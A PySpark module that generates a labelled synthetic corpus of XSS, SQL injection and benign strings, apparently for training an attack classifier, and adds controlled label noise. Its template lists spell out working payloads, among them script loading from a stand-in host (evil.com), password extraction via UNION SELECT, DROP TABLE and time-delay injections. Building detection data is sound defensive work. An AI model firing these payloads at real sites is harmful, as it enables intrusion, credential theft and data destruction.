"""Labelled synthetic payloads (G1) and label noise (G2) as table operators.

Every random choice is a hash of (seed, purpose, row key), so the output is
the same for any partitioning and any cluster size. Generation is driven by
a key column of an existing table: each key yields one payload per class.
"""

from __future__ import annotations

from collections.abc import Sequence

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from .cleaning import drop_duplicates, strip_strings
from .ordering import hash_pick
from .splits import mark_first_by_hash

# ---------------------------------------------------------------------------
# Payload templates per class ({w} = filler word) and the
# filler words of the demo generator, in their published order.
# ---------------------------------------------------------------------------
XSS_TEMPLATES = (
    "<script>alert('{w}')</script>",
    "<img src=x onerror=alert('{w}')>",
    "<svg onload=alert('{w}')>",
    "<body onload=alert('{w}')>",
    "<a href=javascript:alert('{w}')>click</a>",
    "\"><script>alert('{w}')</script>",
    "<ScRiPt>alert('{w}')</sCriPt>",
    "%3Cscript%3Ealert('{w}')%3C/script%3E",
    "<iframe src=javascript:alert('{w}')></iframe>",
    "<input onfocus=alert('{w}') autofocus>",
    "<div style=width:1px;height:1px onmouseover=alert('{w}')></div>",
    "'-alert('{w}')-'",
    "<img/src=\"x\"/onerror=\"alert('{w}')\">",
    "<script src=//evil.com/{w}.js></script>",
)
SQLI_TEMPLATES = (
    "1' OR '1'='1'-- {w}",
    "{w}' UNION SELECT null,password FROM users--",
    "admin'-- {w}",
    "1' AND 1=1-- {w}",
    "' OR 'a'='a' AND '{w}'='{w}",
    "1; DROP TABLE {w}--",
    "1' OR SLEEP(5)-- {w}",
    "1' AND 1=CONVERT(int,(SELECT '{w}'))--",
    "'; WAITFOR DELAY '0:0:5'--{w}",
    "1' /*{w}*/OR/*{w}*/'1'='1",
    "{w}' AND (SELECT COUNT(*) FROM users)>0--",
    "1' UNION SELECT NULL,NULL,version()-- {w}",
)
NORMAL_TEMPLATES = (
    "What is the weather in {w} today?",
    "Best restaurants near {w}",
    "How do I reset my {w} password?",
    "Thank you for the {w}, it works well.",
    "Please schedule a meeting about {w} tomorrow.",
    "I would like to return my {w} order.",
    "Please select the best option for {w} from the list.",
    "Can you help me write a script for my {w} presentation?",
    "I lost my session cookie recipe for {w}, can you resend it?",
    "Our sales table for {w} shows growth this quarter.",
    "The union meeting about {w} was rescheduled--please confirm.",
    "1 or 2 tickets for the {w} concert, whichever is cheaper.",
    "Drop off the {w} package at the front desk after 5pm.",
    "SELECT ALL applicants for the {w} scholarship, said the coordinator.",
)
FILLER_WORDS = ("cookie", "session", "chennai", "laptop", "mumbai", "delhi",
                "invoice", "account", "order", "support", "billing", "report",
                "1234", "test", "hello", "project", "table", "users")
WHITESPACE_PERTURB_P = 0.15
# ---------------------------------------------------------------------------

TEMPLATES = {"XSS": XSS_TEMPLATES, "SQLi": SQLI_TEMPLATES, "Normal": NORMAL_TEMPLATES}
CLASS_ORDER = ("Normal", "XSS", "SQLi")


def generate_payloads(keys: DataFrame, key: str, seed: int = 42,
                      classes: Sequence[str] = ("XSS", "SQLi", "Normal")) -> DataFrame:
    """G1 (raw): for each key row and class, one filled template; with
    probability 0.15 the first space is doubled. Returns
    (key, payload, label)."""
    parts = []
    for cls in classes:
        tmpls = TEMPLATES[cls]
        t = F.element_at(F.array(*[F.lit(x) for x in tmpls]), hash_pick(key, seed, f"tmpl-{cls}", len(tmpls)) + 1)
        w = F.element_at(F.array(*[F.lit(x) for x in FILLER_WORDS]),
                         hash_pick(key, seed, f"word-{cls}", len(FILLER_WORDS)) + 1)
        filled = F.replace(t, F.lit("{w}"), w)
        perturb = hash_pick(key, seed, f"ws-{cls}", 10_000) < int(WHITESPACE_PERTURB_P * 10_000)
        payload = F.when(perturb, F.regexp_replace(filled, "^([^ ]*) ", "$1  ")).otherwise(filled)
        parts.append(keys.select(F.col(key), payload.alias("payload"), F.lit(cls).alias("label")))
    out = parts[0]
    for p in parts[1:]:
        out = out.unionByName(p)
    return out


def synthetic_corpus(keys: DataFrame, key: str, seed: int = 42) -> DataFrame:
    """G1: generate, then clean like the demo (dedupe on the payload table,
    strip strings). Returns distinct (payload, label)."""
    raw = generate_payloads(keys, key, seed).select("payload", "label")
    return strip_strings(drop_duplicates(raw))


def inject_label_noise(df: DataFrame, key: str, label: str, noise: float, seed: int = 42,
                       classes: Sequence[str] = CLASS_ORDER) -> DataFrame:
    """Flip exactly int(n x noise) labels - the first rows in
    md5(seed|noise|key) order - each to one of the other classes, chosen by
    hash. Adds ``flipped`` (boolean)."""
    n = df.count()
    m = int(n * noise)
    quota = df.sparkSession.range(1).select(F.lit(m).cast("long").alias("quota"))
    marked = mark_first_by_hash(df, key, quota, [], "flipped", seed, "noise")
    cls = F.array(*[F.lit(c) for c in classes])
    others = F.filter(cls, lambda c: c != F.col(label))
    pick = hash_pick(key, seed, "other", len(classes) - 1)
    new = F.when(F.col("flipped"), F.element_at(others, pick + 1)).otherwise(F.col(label))
    return marked.withColumn(label, new)
